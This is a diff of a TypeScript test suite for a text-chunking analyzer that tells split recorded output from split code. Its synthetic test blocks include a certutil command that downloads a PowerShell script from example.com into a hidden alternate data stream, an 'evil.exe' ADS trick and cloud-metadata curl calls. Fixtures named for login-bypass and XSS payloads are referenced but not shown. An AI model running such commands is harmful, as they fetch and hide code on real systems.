@@ -4,13 +4,13 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { recordedOutputKind } from '../../../../shared/rules/recordedOutput';
-import { analyzeText } from '../../../helpers/analyzeText';
+import { analyzeText, readFixture } from '../../../helpers/analyzeText';
 
 const budgets = { maxTokens: 60, targetTokens: 40, minTokens: 1, overlapTokens: 0 };
 const lines = (n: number, line: (i: number) => string) => Array.from({ length: n }, (_, i) => line(i)).join('\n');
 
-function findings(text: string, ruleId: string) {
-  const a = analyzeText(text, { budgets });
+function findings(text: string, ruleId: string, caps = budgets) {
+  const a = analyzeText(text, { budgets: caps });
   return { writer: a.findings.filter((f) => f.ruleId === ruleId), pipeline: a.pipelineFindings.filter((f) => f.ruleId === ruleId) };
 }
 
@@ -41,7 +41,10 @@ describe('recorded output split across chunks is the pipeline\'s', () => {
     ['a list of search dorks, one quoted string per line', `\`\`\`bash\n${lines(30, (i) => `"access_key number ${i}"`)}\n\`\`\``, /one unbroken string per line/],
     ['a list of Windows paths with spaces', `\`\`\`\n${lines(30, (i) => `C:\\Program Files\\App ${i}\\logs\\access.log`)}\n\`\`\``, /one unbroken string per line/],
     ['a debugger session (`(lldb) b xpc_pipe_routine` and what it printed)', `\`\`\`bash\n(lldb) b xpc_pipe_routine\n${lines(30, (i) => `frame #${i}: 0x00000001000${i}3f2 sand\`main + ${i * 4}`)}\n\`\`\``, /terminal session/],
-    ['a hex dump', `\`\`\`txt\n${lines(30, (i) => `${(i * 16).toString(16).padStart(8, '0')}: 0931 3237 2e30 2e30 2e31 00ff ff00 0161  .127.0.0.1.....a`)}\n\`\`\``, /a hex dump/],
+    ['a debugger\'s disassembly (`0x… <+4>:  mov`)', `\`\`\`\n${lines(30, (i) => `   0x00000000004011${(i * 4).toString(16).padStart(2, '0')} <+${i * 4}>:\tmov    %edi,-0x14(%rbp)`)}\n\`\`\``, /printed records/],
+    ['a Zeek log: its header directives (`#separator`, `#fields`), then tab-separated rows', `\`\`\`\n#separator \\x09\n#set_separator\t,\n#path\tconn\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tproto\n${lines(30, (i) => `13004751${i}.096535\tCRR${i}ab\tgateway-${i}.local\t${5353 + i}\tudp`)}\n\`\`\``, /a program's report/],
+    ['a port scanner\'s port lines', `\`\`\`\n${lines(30, (i) => `${1000 + i}/tcp   open  service-${i}     Version ${i} of the service`)}\n\`\`\``, /printed records/],
+        ['a hex dump', `\`\`\`txt\n${lines(30, (i) => `${(i * 16).toString(16).padStart(8, '0')}: 0931 3237 2e30 2e30 2e31 00ff ff00 0161  .127.0.0.1.....a`)}\n\`\`\``, /a hex dump/],
   ];
   for (const [name, block, kind] of recordings) {
     it(`${name}: a pipeline finding naming the recording and the cap that holds it`, () => {
@@ -61,6 +64,29 @@ describe('recorded output split across chunks is the pipeline\'s', () => {
   });
 });
 
+describe('real recordings the cap cuts are the pipeline\'s (test/fixtures/ck006)', () => {
+  // A cap that holds the longest line of most of these excerpts (a banner, a row) and none of their blocks; a short excerpt keeps the small cap.
+  const wide = { ...budgets, maxTokens: 150, targetTokens: 100 };
+  const excerpts: Array<[string, string, RegExp, typeof budgets?]> = [
+    ['a k6 end-of-test summary after its ASCII-art banner (k6-docs using-k6-browser)', 'k6-end-of-test-summary.md', /an end-of-run summary: metrics behind dot leaders/],
+    ['an nmap report saved without its command (HackTricks CPTS nmap.md)', 'nmap-report.md', /a program's report: it opens with a header only the program prints/],
+    ['objdump\'s section headers after the command that printed them (HackTricks elf-tricks.md)', 'objdump-section-headers.md', /a program's report/],
+    ['a Bus Pirate session: mode prompts (`I2C>v`, `(1)>4`), what the device printed, `#` notes between (HackTricks i2c.md)', 'bus-pirate-session.md', /an annotated session/],
+    ['an lldb session behind a note (HackTricks arm64-basic-assembly.md)', 'lldb-session.md', /an annotated session/, budgets],
+    ['a list of login-bypass payloads: words and injections whose quotes are left open (HackTricks sql-login-bypass.md)', 'login-bypass-payloads.md', /one literal per line/],
+    ['XSS polyglots, one a line (HackTricks pocs-and-polygloths-cheatsheet)', 'xss-polyglots.md', /one literal per line/],
+    ['a PowerShell table (a header row, a rule of dashes, a row per command) after its command (HackTricks laps.md)', 'powershell-table.md', /a program's printed records/],
+  ];
+  for (const [name, file, kind, caps = wide] of excerpts) {
+    it(`${name} is a pipeline finding naming the recording`, () => {
+      const { writer, pipeline } = findings(readFixture('ck006', file), 'CK006', caps);
+      assert.deepEqual(writer, []);
+      assert.equal(pipeline.length, 1);
+      assert.match(pipeline[0].pipeline!.cause, kind);
+    });
+  }
+});
+
 describe('split code that is no recording stays the writer\'s', () => {
   const code: Array<[string, string]> = [
     ['commands each behind a prompt, with no output', `\`\`\`bash\n${lines(30, (i) => `$ kubectl apply -f manifest-${i}.yaml`)}\n\`\`\``],
@@ -68,6 +94,12 @@ describe('split code that is no recording stays the writer\'s', () => {
     ['a cheat sheet of commands with their comments', `\`\`\`bash\n${lines(30, (i) => `curl -s -H "Metadata-Flavor:Google" http://metadata/v1/project/${i} # attribute ${i}`)}\n\`\`\``],
     ['Python code holding numbers', `\`\`\`python\n${lines(30, (i) => `weights[${i}] = scale(${i}, 0.${i}, offset=${i * 16})`)}\n\`\`\``],
     ['a shell excerpt behind comments', `\`\`\`bash\n# install the tools\n${lines(30, (i) => `apt-get install -y tool-${i}`)}\n\`\`\``],
+    ['a cheat sheet of commands under notes, a few behind a prompt (`C:\\> type …`), most bare', `\`\`\`bash\n${lines(10, (i) => `# Step ${i} of the recipe\nC:\\temp> type file${i}.exe > "C:\\Program Files\\log${i}.txt:evil.exe"\n# and then\ncertutil.exe -urlcache -split -f https://example.com/${i}.ps1 c:\\temp:t${i}\ndir /R c:\\dir${i}`)}\n\`\`\``],
+    ['PowerShell parameters typed in brackets (`[String]$Mode,`), no prompts', `\`\`\`powershell\n${lines(30, (i) => `[String]$Param${i},\n# parameter ${i}`)}\n\`\`\``],
+    ['numbered steps in a fence (`1) Right click …`)', `\`\`\`\n${lines(15, (i) => `${i + 1}) Click the "Option ${i}" button and wait for the dialog.\n`)}\n\`\`\``],
+    ['JavaScript calls chained over lines without indentation', `\`\`\`js\n${lines(15, (i) => `fetch(url${i}, {\nmethod: 'POST' })`)}\n\`\`\``],
+    ['a tool\'s version banner followed by C code', `\`\`\`c\nImpacket v0.9.24 - Copyright 2021 SecureAuth Corporation\n${lines(30, (i) => `int value${i} = compute(${i});`)}\n\`\`\``],
+        ['JavaScript that spreads and elides (`...args`, `// ...`)', `\`\`\`js\n${lines(30, (i) => `call${i}(...args); // ... and then step ${i}`)}\n\`\`\``],
   ];
   for (const [name, block] of code) {
     it(`${name} is reported on its line`, () => {
